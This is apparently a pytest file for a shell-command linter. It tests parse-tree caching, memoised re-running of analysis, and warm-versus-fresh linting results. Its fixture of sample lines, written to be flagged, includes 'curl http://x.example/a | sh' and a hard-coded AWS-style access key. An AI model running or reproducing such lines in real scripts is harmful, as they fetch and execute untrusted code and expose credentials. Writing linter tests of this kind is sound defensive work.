"""Trees of commands that are lent again, and what is kept with them."""

from __future__ import annotations

import pytest

from cblint.flow import remembered
from cblint.flow.core import Given, Limits
from cblint.flow.items import Beginning, first_state, run_item
from cblint.flow.layers import Layers
from cblint.flow.remembered import run_again
from cblint.flow.state import GIVEN, File, State, Variable
from cblint.flow.values import literal
from cblint.shell import trees
from cblint.shell.parser import parse
from cblint.shell.query import invocations
from cblint.shell.script import Script
from cblint.shell.syntax import walk
from cblint.shell.trees import Trees, of_tree
from cblint.source.text import Piece, Span, Text
from tests.helpers import commands, lint

COMMANDS = [
    "echo a",
    "echo `date +\\`x\\`` > out",
    "cat <<EOF | sh\n$(pwd) `x`\nEOF",
    "bash -c 'make; sh -c \"ls\"'",
    'X="$(a "$(b)")" env c',
]


def places(script: Script) -> list[Span]:
    return [node.span for node in walk(script)]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_tree_that_is_lent_again_stands_where_its_command_does(command: str) -> None:
    lent = Trees()
    first = lent.lend(Text.of(command, 100))
    assert places(first) == places(parse(Text.of(command, 100)))
    inner = list(invocations(first))  # the quotes of `bash -c` are read in a text of their own
    lent.take_back(first)
    elsewhere = Text([Piece(char, 10 + 3 * at, 12 + 3 * at) for at, char in enumerate(command)], 10)
    again = lent.lend(elsewhere)
    assert again is first
    fresh = parse(elsewhere)
    assert places(again) == places(fresh)
    assert [each.node.span for each in inner] == [each.node.span for each in invocations(fresh)]


def test_two_who_have_the_same_command_have_a_tree_each() -> None:
    lent = Trees()
    first, second = lent.lend(Text.of("make", 3)), lent.lend(Text.of("make", 30))
    assert (first.span, second.span) == (Span(3, 7), Span(30, 34))
    lent.take_back(first)
    lent.take_back(second)
    assert [lent.lend(Text.of("make", at)) for at in (5, 50)] == [first, second]
    assert (first.span, second.span) == (Span(5, 9), Span(50, 54))
    assert lent.lend(Text.of("make")) not in (first, second)


LONG = f"echo {'x' * 300}"


def test_only_so_much_is_kept() -> None:
    lent = Trees(room=208)
    given = [lent.lend(Text.of(command)) for command in ("one", "two", "three", LONG)]
    given[0].known["anything"] = 1
    for each in given[:3]:
        lent.take_back(each)
    assert given[0].known == {}
    assert lent.lend(Text.of("one")) is not given[0]
    assert lent.lend(Text.of("three")) is given[2]
    lent.take_back(given[3])
    assert lent.lend(Text.of(LONG)) is not given[3]


def test_of_several_trees_of_a_command_the_nearest_is_lent() -> None:
    lent = Trees()
    places = [10, 20, 30]
    given = {place: lent.lend(Text.of("make", place)) for place in places}
    for place in (20, 30, 10):
        lent.take_back(given[place])
    # The first line is gone, and all others have moved up.
    assert lent.lend(Text.of("make", 15)) is given[10]
    assert lent.lend(Text.of("make", 26)) is given[30]
    assert lent.lend(Text.of("make", 99)) is given[20]


def test_what_is_worked_out_of_a_tree_is_worked_out_once() -> None:
    asked = []

    @of_tree
    def answer(script: Script) -> int:
        asked.append(script)
        return len(asked)

    first, second = parse(Text.of("a")), parse(Text.of("a"))
    assert [answer(first), answer(first), answer(second)] == [1, 1, 2]


# Items that are run again


@pytest.fixture
def ran(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The commands that were really run."""
    found: list[str] = []

    def counted(script, *arguments):  # type: ignore[no-untyped-def]
        found.append(script.source.value)
        return run_item(script, *arguments)

    monkeypatch.setattr(remembered, "run_item", counted)
    return found


def given(files: dict[str, str] | None = None) -> Given:
    texts = files or {}
    return Given(Layers(GIVEN), lambda path: File("file", literal(texts[path])) if path in texts else None)


def begun(**variables: str) -> State:
    state = first_state(given(), Beginning())
    for name, value in variables.items():
        state = state.with_variable(name, Variable(True, literal(value), True))
    return state


def test_an_item_is_run_again_where_it_begins_otherwise(ran: list[str]) -> None:
    script = parse(Text.of("cd $A"))
    limits = Limits(1_000)
    runs = [
        run_again(script, state, "sh", given(), Beginning(), limits)
        for state in (begun(A="x"), begun(A="x"), begun(A="y"), begun(A="x", B="z"), begun(A="y"))
    ]
    assert len(ran) == 3
    assert runs[0] is runs[1] is not runs[2]
    assert runs[2] is runs[4]
    assert run_again(script, begun(A="x"), "bash", given(), Beginning(), limits) not in runs


def test_an_item_is_run_again_where_a_file_of_the_repository_is_another(ran: list[str]) -> None:
    script = parse(Text.of(". /src/env; echo $A"))
    limits = Limits(1_000)
    for text in ("A=1", "A=1", "A=2"):
        run_again(script, begun(), "sh", given({"/src/env": text}), Beginning(), limits)
    assert len(ran) == 2


@pytest.mark.parametrize(("command", "times"), [("echo a", 1), ("env | tee x", 2)])
def test_what_tells_places_is_run_again_where_these_are_others(command: str, times: int, ran: list[str]) -> None:
    lent = Trees()
    for offset in (0, 9, 9):
        script = lent.lend(Text.of(command, offset))
        run_again(script, begun(), "sh", given(), Beginning(), Limits(1_000))
        lent.take_back(script)
    assert len(ran) == times


def test_a_run_that_is_not_needed_counts_as_one(ran: list[str]) -> None:
    script = parse(Text.of("a; b; c"))
    once, twice, short = Limits(1_000), Limits(1_000), Limits(1)
    run_again(script, begun(), "sh", given(), Beginning(), once)
    run_again(script, begun(), "sh", given(), Beginning(), twice)
    assert once.steps == twice.steps < 1_000
    assert len(ran) == 1
    run_again(script, begun(), "sh", given(), Beginning(), short)
    assert len(ran) == 2
    assert short.exhausted


# Files


SECRET = "AKIA" + "Q3EGZPWJ5T7YH2XB"
FILE = [
    "export A=$(aws ssm get-parameter --name x --with-decryption --query Parameter.Value)",
    "echo $A; (B=1); echo $B",
    'curl http://x.example/a | sh; echo "$MISSING"',
    f"aws configure set aws_access_key_id {SECRET} || true",
    "env",
    "if [[ $A == b ]]; then make; npm test; fi",
]


@pytest.mark.parametrize("changed", range(len(FILE)))
def test_a_warm_process_says_what_a_new_one_says(changed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    versions = [
        FILE,
        [*FILE[:changed], FILE[changed] + " # x", *FILE[changed + 1 :]],
        [*FILE[:changed], *FILE[changed + 1 :]],
        [*FILE[:changed], "true", *FILE[changed:]],
        [FILE[changed], *FILE],
        FILE,
    ]
    monkeypatch.setattr(trees, "TREES", Trees())
    warm = [lint(commands(*version)) for version in versions]
    for version, found in zip(versions, warm, strict=True):
        monkeypatch.setattr(trees, "TREES", Trees())
        assert lint(commands(*version)) == found
    assert warm[0] == warm[-1]
    assert len(warm[0].findings) > len(FILE) / 2
